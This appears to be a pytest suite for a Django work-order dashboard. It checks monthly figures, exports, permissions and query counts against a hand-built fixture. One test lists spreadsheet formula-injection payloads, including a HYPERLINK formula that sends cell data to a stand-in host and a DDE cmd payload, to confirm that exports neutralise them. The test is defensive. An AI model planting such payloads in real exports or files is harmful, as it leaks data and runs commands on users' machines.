"""The dashboards' figures against a fixture counted by hand, their pages, exports and charts.

The fixture (two departments, September and October 2026):

    dept A (JT)  a1 issued 09-01 answered after 1 wd, done 09-10 (due 09-15) in 7 wd    on time
                 a2 issued 09-02 answered after 3 wd, done 10-09 (due 09-16) in 20 wd   late
                 a3 issued 09-20 answered after 2 wd, open, overdue now
                 a4 issued 10-08 never answered, open, escalated now
    dept B (JW)  b1 issued 09-03 answered after 0 wd, done 09-05 (due 09-17) in 2 wd    on time
                 b2 issued 09-04 answered after 2 wd, done 09-30 (due 09-18) in 17 wd   late
                 b3 issued 10-09 answered after 1 wd, done 10-20 (due 10-23) in 9 wd    on time
    an August assignment (x1, dept A) that no September or October figure may count.

    ratings: WO(a1, b1) 4 on 09-20; WO(a2) 2 at 10-01 00:30 Shanghai (still 09-30 in UTC);
             WO(b3) 5 on 10-25.
    sweep:   a2 overdue 09-17, escalated 09-24; b2 overdue 09-19; a3 overdue 10-01 00:10 Shanghai.
"""
from __future__ import annotations

import csv
import datetime
import io
import zoneinfo
from decimal import Decimal

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from center.models import DepartmentMonth
from center.dashboards.figures import median_of_histogram, refresh_figures
from workorders.models import Assignment, SlaTransition

SH = zoneinfo.ZoneInfo("Asia/Shanghai")
SEP, OCT, AUG = datetime.date(2026, 9, 1), datetime.date(2026, 10, 1), datetime.date(2026, 8, 1)
D = datetime.date


def _assignment(work_order, department, issued, due, *, response=None, closed=None, taken=None, status=None,
                sla_state=Assignment.SlaState.ON_TRACK):
    from workorders.tests.factories import AssignmentFactory

    done = closed is not None
    return AssignmentFactory(
        work_order=work_order, department=department, issued_on=issued,
        issued_at=datetime.datetime.combine(issued, datetime.time(10), SH), due_date=due,
        response_working_days=response, closed_on=closed, working_days_taken=taken,
        closed_at=datetime.datetime.combine(closed, datetime.time(16), SH) if done else None,
        status=status or (Assignment.Status.DONE if done else Assignment.Status.IN_PROGRESS),
        sla_state=Assignment.SlaState.DONE if done else sla_state)


def _rated(work_order, rating, at):
    request = work_order.request
    request.rating, request.rated_at = rating, at
    request.save(update_fields=["rating", "rated_at"])


def _moved(assignment, to_state, at):
    SlaTransition.objects.create(sweep="00000000-0000-0000-0000-000000000001", assignment=assignment,
                                 from_state="on_track", to_state=to_state, at=at)


@pytest.fixture
def counted(world):
    from projects.models import InvestmentProject
    from projects.tests.factories import InvestmentProjectFactory, TownFactory
    from workorders.tests.factories import WorkOrderFactory

    a, b = world.dept_a, world.dept_b
    wo1, wo2, wo3, wo4, wo5, wo6, wo7 = (WorkOrderFactory(lead_department=a) for _ in range(7))
    f = {}
    f["a1"] = _assignment(wo1, a, D(2026, 9, 1), D(2026, 9, 15), response=1, closed=D(2026, 9, 10), taken=7)
    f["b1"] = _assignment(wo1, b, D(2026, 9, 3), D(2026, 9, 17), response=0, closed=D(2026, 9, 5), taken=2)
    f["a2"] = _assignment(wo2, a, D(2026, 9, 2), D(2026, 9, 16), response=3, closed=D(2026, 10, 9), taken=20)
    f["b2"] = _assignment(wo3, b, D(2026, 9, 4), D(2026, 9, 18), response=2, closed=D(2026, 9, 30), taken=17)
    f["a3"] = _assignment(wo4, a, D(2026, 9, 20), D(2026, 9, 30), response=2, sla_state=Assignment.SlaState.OVERDUE)
    f["a4"] = _assignment(wo5, a, D(2026, 10, 8), D(2026, 10, 22), sla_state=Assignment.SlaState.ESCALATED)
    f["b3"] = _assignment(wo6, b, D(2026, 10, 9), D(2026, 10, 23), response=1, closed=D(2026, 10, 20), taken=9)
    f["x1"] = _assignment(wo7, a, D(2026, 8, 3), D(2026, 8, 14), response=1, closed=D(2026, 8, 31), taken=20)
    _rated(wo1, 4, datetime.datetime(2026, 9, 20, 10, tzinfo=SH))
    _rated(wo2, 2, datetime.datetime(2026, 10, 1, 0, 30, tzinfo=SH))
    _rated(wo6, 5, datetime.datetime(2026, 10, 25, 10, tzinfo=SH))
    _rated(wo7, 1, datetime.datetime(2026, 8, 31, 23, 50, tzinfo=SH))
    _moved(f["a2"], "overdue", datetime.datetime(2026, 9, 17, 1, tzinfo=SH))
    _moved(f["a2"], "escalated", datetime.datetime(2026, 9, 24, 1, tzinfo=SH))
    _moved(f["b2"], "due_soon", datetime.datetime(2026, 9, 16, 1, tzinfo=SH))
    _moved(f["b2"], "overdue", datetime.datetime(2026, 9, 19, 1, tzinfo=SH))
    _moved(f["a3"], "overdue", datetime.datetime(2026, 10, 1, 0, 10, tzinfo=SH))
    # Projects: town 1 has two red, one green (and a red one in operation, not counted); town 2 one yellow.
    # The world's own two projects (green by default) sit in their own towns.
    light = InvestmentProject.Difficulty
    f["town1"], f["town2"] = TownFactory(name_zh="一号镇", name_en="Town One"), TownFactory(name_zh="二号镇")
    for difficulty in (light.RED, light.RED, light.GREEN):
        InvestmentProjectFactory(town=f["town1"], difficulty=difficulty, stage=InvestmentProject.Stage.LAND)
    InvestmentProjectFactory(town=f["town1"], difficulty=light.RED, stage=InvestmentProject.Stage.IN_OPERATION)
    InvestmentProjectFactory(town=f["town2"], difficulty=light.YELLOW, stage=InvestmentProject.Stage.FILING)
    f["world"] = world
    return f


def _row(department, month):
    return DepartmentMonth.objects.get(department=department, month=month)


def test_median_of_a_histogram():
    assert median_of_histogram({}) is None
    assert median_of_histogram({7: 1}) == Decimal("7")
    assert median_of_histogram({2: 1, 17: 1}) == Decimal("9.5")
    assert median_of_histogram({2: 1, 7: 1, 17: 1}) == Decimal("7")
    assert median_of_histogram({3: 2, 10: 2}) == Decimal("6.5")
    assert median_of_histogram({1: 5, 9: 1}) == Decimal("1")


@pytest.mark.django_db
def test_each_figure_matches_the_hand_count(counted):
    result = refresh_figures(months=[SEP, OCT])
    a, b = counted["world"].dept_a, counted["world"].dept_b
    assert result.months == [SEP, OCT] and result.rows == 6  # two departments and the district, two months

    def figures(row):
        return (row.issued, row.answered_in_time, row.resolved, row.resolved_on_time, row.median_working_days,
                row.ratings, row.rating_total, row.became_overdue, row.became_escalated)

    #                                    issued answered resolved on time median   ratings total overdue escalated
    assert figures(_row(a, SEP)) == (3, 2, 1, 1, Decimal("7.0"), 1, 4, 1, 1)
    assert figures(_row(b, SEP)) == (2, 2, 2, 1, Decimal("9.5"), 1, 4, 1, 0)
    assert figures(_row(None, SEP)) == (5, 4, 3, 2, Decimal("7.0"), 1, 4, 2, 1)
    assert figures(_row(a, OCT)) == (1, 0, 1, 0, Decimal("20.0"), 1, 2, 1, 0)
    assert figures(_row(b, OCT)) == (1, 1, 1, 1, Decimal("9.0"), 1, 5, 0, 0)
    assert figures(_row(None, OCT)) == (2, 1, 2, 1, Decimal("14.5"), 2, 7, 1, 0)
    # The rates the pages show.
    assert (_row(a, SEP).response_rate, _row(a, SEP).on_time_rate, _row(a, SEP).satisfaction) == (66.7, 100.0, 4.0)
    assert (_row(None, SEP).response_rate, _row(None, SEP).on_time_rate) == (80.0, 66.7)
    assert (_row(None, OCT).on_time_rate, _row(None, OCT).satisfaction) == (50.0, 3.5)
    assert not DepartmentMonth.objects.filter(month=AUG).exists()


@pytest.mark.django_db
def test_a_refresh_replaces_only_its_months_and_is_idempotent(counted):
    refresh_figures(months=[AUG, SEP, OCT])
    august = _row(counted["world"].dept_a, AUG)
    assert (august.issued, august.resolved, august.ratings) == (1, 1, 1)
    before = list(DepartmentMonth.objects.order_by("month", "department_id").values_list(
        "department_id", "month", "issued", "resolved", "median_working_days", "ratings"))
    # The department finishes a3 on 10-30: only October changes, and August stays as it was.
    Assignment.objects.filter(pk=counted["a3"].pk).update(
        status=Assignment.Status.DONE, sla_state=Assignment.SlaState.DONE, closed_on=D(2026, 10, 30), working_days_taken=28)
    refresh_figures(months=[OCT])
    assert refresh_figures(months=[OCT]).rows == 3
    assert _row(counted["world"].dept_a, OCT).resolved == 2
    assert _row(counted["world"].dept_a, OCT).median_working_days == Decimal("24.0")
    after = list(DepartmentMonth.objects.order_by("month", "department_id").values_list(
        "department_id", "month", "issued", "resolved", "median_working_days", "ratings"))
    assert [r for r in after if r[1] != OCT] == [r for r in before if r[1] != OCT]
    assert DepartmentMonth.objects.count() == len(before)


@pytest.mark.django_db
def test_the_refresh_takes_the_same_queries_whatever_the_rows(counted):
    from workorders.tests.factories import WorkOrderFactory

    with CaptureQueriesContext(connection) as few:
        refresh_figures(months=[SEP, OCT])
    for day in range(1, 25):
        wo = WorkOrderFactory(lead_department=counted["world"].dept_b)
        _assignment(wo, counted["world"].dept_b, D(2026, 9, day), D(2026, 9, 28), response=1,
                    closed=D(2026, 10, day), taken=day)
    with CaptureQueriesContext(connection) as many:
        refresh_figures(months=[SEP, OCT])
    assert len(few.captured_queries) == len(many.captured_queries)
    assert _row(counted["world"].dept_b, OCT).resolved == 1 + 24


@pytest.mark.django_db
def test_the_live_figures(counted):
    from center.dashboards import selectors

    towns = {row["town"]: (row["red"], row["yellow"], row["green"], row["total"]) for row in selectors.projects_by_town()}
    assert towns["一号镇"] == (2, 0, 1, 3) and towns["二号镇"] == (0, 1, 0, 1)
    assert list(towns)[0] == "一号镇"  # reddest first
    late = selectors.late_work_by_department()
    assert [(r["code"], r["overdue"], r["escalated"], r["late"]) for r in late] == [("JT", 1, 1, 2)]
    items = selectors.escalated_items(today=D(2026, 10, 29))
    assert [item.pk for item in items] == [counted["a4"].pk]
    assert items[0].working_days_overdue == 5  # due 10-22 (Thu): 23, 26, 27, 28, 29


def _leader(world):
    client = Client()
    client.force_login(world.leader)
    return client


@pytest.mark.django_db
def test_the_leader_page_shows_the_figures_and_charts(counted):
    refresh_figures(months=[SEP, OCT])
    response = _leader(counted["world"]).get("/leader/?month=2026-09")
    assert response.status_code == 200
    table = response.context["departments_month"]
    # Both on-time rates side by side (no extension in this fixture: the same).
    assert [row[:7] for row in table.rows] == [["区交通委", 3, 66.7, 1, 100.0, 100.0, Decimal("7.0")],
                                               ["区建设管理委", 2, 100.0, 2, 50.0, 50.0, Decimal("9.5")]]
    assert table.footer[:7] == ["全区", 5, 80.0, 3, 66.7, 66.7, Decimal("7.0")]
    page = response.content.decode()
    assert page.count("<svg") == 4
    # The town chart's bars are as long as their counts (two red of the largest row's three fill 2/3).
    import re

    bars = re.findall(r'<rect x="[\d.]+" y="[\d.]+" width="([\d.]+)" height="16" fill="#c0392b" data-value="(\d+)"', page)
    assert ("253.3", "2") in bars
    trend = response.context["district_by_month"]
    assert [row[0] for row in trend.rows][-2:] == ["2026-08", "2026-09"]
    assert trend.rows[-1][4] == trend.rows[-1][5] == 66.7 and trend.rows[-2][1] == 0  # August was not refreshed here: an empty month
    assert "一号镇" in page and "JT" in page


@pytest.mark.django_db
def test_a_bad_month_is_explained_beside_the_field_and_kept(counted):
    response = _leader(counted["world"]).get("/leader/?month=2026-13")
    assert response.status_code == 200
    page = response.content.decode()
    assert "2026-13" in page and 'class="field has-error"' in page
    assert response.context["month_error"]
    export = _leader(counted["world"]).get("/leader/export/departments-month.csv?month=Sept")
    assert export.status_code == 400


@pytest.mark.django_db
def test_every_leader_table_exports_to_csv_and_excel_with_the_page_rows(counted):
    from openpyxl import load_workbook

    refresh_figures(months=[SEP, OCT])
    client = _leader(counted["world"])
    page = client.get("/leader/?month=2026-10").context
    for slug in ("projects-by-town", "overdue-by-department", "departments-month", "departments-asks",
                 "district-by-month", "escalated"):
        shown = page[slug.replace("-", "_")]
        response = client.get(f"/leader/export/{slug}.csv?month=2026-10")
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
        assert "attachment;" in response["Content-Disposition"]
        content = response.content.decode("utf-8")
        assert content.startswith("\ufeff")
        rows = list(csv.reader(io.StringIO(content[1:])))
        assert rows[0] == shown.headers()
        expected = [["" if v is None else (v.isoformat() if isinstance(v, datetime.date) else str(v)) for v in r]
                    for r in shown.all_rows()]
        assert rows[1:] == expected, slug
        workbook = load_workbook(io.BytesIO(client.get(f"/leader/export/{slug}.xlsx?month=2026-10").content))
        sheet = workbook.active
        cells = [list(r) for r in sheet.iter_rows(values_only=True)]
        assert list(cells[0]) == shown.headers()
        assert len(cells) - 1 == len(shown.all_rows()), slug
        for got, want in zip(cells[1:], shown.all_rows()):
            normal = [float(v) if isinstance(v, Decimal) else v for v in want]
            got = [v.date() if isinstance(v, datetime.datetime) else v for v in got]
            assert got == normal, slug
    assert client.get("/leader/export/nothing.csv").status_code == 404
    assert client.get("/leader/export/escalated.pdf").status_code == 404


@pytest.mark.django_db
def test_the_center_dashboard_counts_and_exports(counted):
    from center.models import OfficeHoursSession
    from workdays.calendar import local_date
    from workorders.models import ServiceRequest

    world = counted["world"]
    today_session, _ = OfficeHoursSession.objects.get_or_create(date=local_date(), defaults={"venue": "区行政服务中心"})
    old = ServiceRequest.objects.filter(pk=counted["a1"].work_order.request_id)
    old.update(submitted_at=datetime.datetime.combine(local_date() - datetime.timedelta(days=10), datetime.time(9), SH))
    staff = Client()
    staff.force_login(world.staff)
    response = staff.get("/center/")
    assert response.status_code == 200
    # Every request was made today by the fixture except the one moved 10 days back; one waits for triage.
    everything = ServiceRequest.objects.count()
    assert response.context["incoming"] == {"today": everything - 1, "week": everything - 1,
                                            "month": everything, "waiting": 1}
    assert response.context["session"] == today_session
    csv_text = staff.get("/center/export/open-work-by-department.csv").content.decode("utf-8")
    rows = list(csv.reader(io.StringIO(csv_text[1:])))
    by_name = {r[0]: r[1:] for r in rows[1:]}
    # Open: the world's assignment, a3 and a4; past due: a3 and a4 (escalated is past due too); escalated: a4.
    assert by_name["区交通委"] == ["3", "2", "1", "0"]
    assert staff.get("/center/export/mechanism-candidates.xlsx").status_code == 200
    leader = _leader(world)
    assert leader.get("/center/export/open-work-by-department.csv").status_code == 403


@pytest.mark.django_db
def test_who_may_see_the_dashboards(world):
    expected = {"enterprise_a": 403, "officer_a": 403, "head_a": 403, "staff": 200, "leader": 200}
    for role, status in expected.items():
        client = Client()
        client.force_login(world.users[role])
        for url in ("/leader/", "/leader/export/escalated.csv", "/leader/export/projects-by-town.xlsx"):
            assert client.get(url).status_code == status, (role, url)
    anonymous = Client().get("/leader/export/escalated.csv")
    assert anonymous.status_code == 302 and anonymous["Location"].startswith("/accounts/login/")
    leader = _leader(world)
    assert leader.get("/").url == "/leader/"


@pytest.mark.django_db
def test_the_leader_page_takes_the_same_queries_whatever_the_rows(counted):
    from workorders.tests.factories import WorkOrderFactory

    refresh_figures(months=[SEP, OCT])
    client = _leader(counted["world"])
    with CaptureQueriesContext(connection) as few:
        assert client.get("/leader/?month=2026-10").status_code == 200
    for _ in range(6):
        wo = WorkOrderFactory(lead_department=counted["world"].dept_b)
        _assignment(wo, counted["world"].dept_b, D(2026, 10, 12), D(2026, 10, 26),
                    sla_state=Assignment.SlaState.ESCALATED)
    refresh_figures(months=[SEP, OCT])
    with CaptureQueriesContext(connection) as many:
        response = client.get("/leader/?month=2026-10")
    assert len(response.context["escalated"].rows) == 7
    assert len(few.captured_queries) == len(many.captured_queries)


@pytest.mark.django_db
@pytest.mark.parametrize("month", ["0001-01", "0001-02", "1999-12", "9999-12"])
def test_a_month_out_of_range_is_explained_not_a_server_error(counted, month):
    """The assessment: ``/leader/?month=0001-01`` and the exports with ``month=0001-02`` answered 500
    (the trend reaches back to year 0)."""
    client = _leader(counted["world"])
    response = client.get(f"/leader/?month={month}")
    assert response.status_code == 200
    assert response.context["month_error"] and month in response.content.decode()
    for slug in ("departments-month", "district-by-month"):
        export = client.get(f"/leader/export/{slug}.csv?month={month}")
        assert export.status_code == 400 and "2000-01" in export.content.decode()


HOSTILE_CELLS = ['=HYPERLINK("http://127.0.0.1:1/leak?"&B2,"Details")', "+1+cmd|' /C calc'!A0", "-2+3",
                 "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


@pytest.mark.django_db
@pytest.mark.parametrize("title", HOSTILE_CELLS)
def test_no_export_writes_a_live_formula(counted, title):
    """The assessment: a request titled ``=HYPERLINK(...)`` came out live in ``/leader/export/escalated.csv``.
    Every text cell that a spreadsheet would read as a formula starts with an apostrophe, in CSV and
    in Excel; numbers (a negative count included) stay numbers."""
    from openpyxl import load_workbook

    escalated = counted["a4"]
    request = escalated.work_order.request
    request.title = title
    request.save(update_fields=["title"])
    client = _leader(counted["world"])
    content = client.get("/leader/export/escalated.csv").content.decode("utf-8")
    rows = list(csv.reader(io.StringIO(content[1:], newline="")))
    titles = [row[1] for row in rows[1:] if row[0] == request.tracking_number]
    assert titles == ["'" + title]
    sheet = load_workbook(io.BytesIO(client.get("/leader/export/escalated.xlsx").content)).active
    cells = [row for row in sheet.iter_rows(values_only=True) if row[0] == request.tracking_number]
    # (XML turns a stored carriage return into a line feed when the workbook is read back.)
    assert [row[1] for row in cells] == ["'" + title.replace("\r", "\n")]
    assert all(not str(cell).startswith(("=", "+", "-", "@", "\t", "\r"))
               for row in rows for cell in row)


def test_the_one_spreadsheet_helper_leaves_numbers_and_plain_text_alone():
    from core.downloads import spreadsheet_text

    assert spreadsheet_text("-3") == "'-3"
    assert spreadsheet_text("Tiancheng =1") == "Tiancheng =1"
    assert spreadsheet_text("") == ""
    assert spreadsheet_text("天成") == "天成"
